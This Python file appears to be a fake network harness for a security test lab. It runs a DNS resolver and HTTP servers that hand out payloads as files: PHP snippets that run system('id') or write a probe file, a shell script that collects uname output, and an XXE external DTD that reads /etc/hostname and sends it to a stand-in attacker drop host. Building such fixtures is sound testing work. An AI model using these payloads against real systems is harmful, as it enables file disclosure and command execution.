# SPDX-License-Identifier: GPL-2.0-or-later
"""The world outside: a resolver for every name, a mirror, and the hosts that attacks send victims to."""
import http.server, socket, socketserver, struct, threading

RECORDS = {'mirror.example.net': '192.0.2.80', 'time.example.net': '192.0.2.80', 'kontor.example': '203.0.113.31', 'herbier.example': '203.0.113.51',
           'puerto.example': '203.0.113.71', 'fjord.example': '203.0.113.91', 'kura.example': '203.0.113.111'}


def answer(packet):
    """One question, one A record; names below drop.example lead to the attacker's drop."""
    labels, at = [], 12
    while packet[at]:
        labels.append(packet[at + 1:at + 1 + packet[at]].decode('latin-1').lower())
        at += 1 + packet[at]
    name, kind = '.'.join(labels), struct.unpack('>H', packet[at + 1:at + 3])[0]
    address = RECORDS.get(name) or ('192.0.2.99' if name.endswith('drop.example') else None)
    found = address and kind == 1
    head = packet[:2] + struct.pack('>HHHHH', 0x8180 if address else 0x8183, 1, 1 if found else 0, 0, 0)
    return head + packet[12:at + 5] + (struct.pack('>HHHIH', 0xc00c, 1, 1, 60, 4) + socket.inet_aton(address) if found else b'')


def resolver():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(('192.0.2.53', 53))
    while True:
        packet, peer = s.recvfrom(2048)
        try:
            s.sendto(answer(packet), peer)
        except (IndexError, struct.error):
            continue


FILES = {
    '/modul.txt': "<?php echo 'modul '.(6*1117); system('id'); ?>\n", '/stumm.txt': "<?php file_put_contents('/tmp/m', '1'); ?>\n",
    '/lien.html': '<html><body>une page lointaine, numéro 20833</body></html>', '/step': '#!/bin/sh\nuname -a >/tmp/.u\n',
    '/teil.dtd': '<!ENTITY % inhalt SYSTEM "file:///etc/hostname"><!ENTITY % bau "<!ENTITY &#x25; raus SYSTEM \'http://192.0.2.99/raus?%inhalt;\'>">%bau;%raus;',
}


class Page(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.0'

    def do_GET(self):
        path = self.path.split('?')[0]
        body = FILES.get(path, 'ok\n' if self.server.server_address[0] == '192.0.2.99' else 'Origin: Debian\nSuite: stable\n').encode()
        self.send_response(200)
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_PUT = do_GET

    def log_message(self, *_):
        pass


class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True


threading.Thread(target=resolver, daemon=True).start()
for address, port in (('192.0.2.80', 80), ('192.0.2.99', 80), ('192.0.2.99', 8099)):
    threading.Thread(target=Server((address, port), Page).serve_forever, daemon=True).start()
threading.Event().wait()
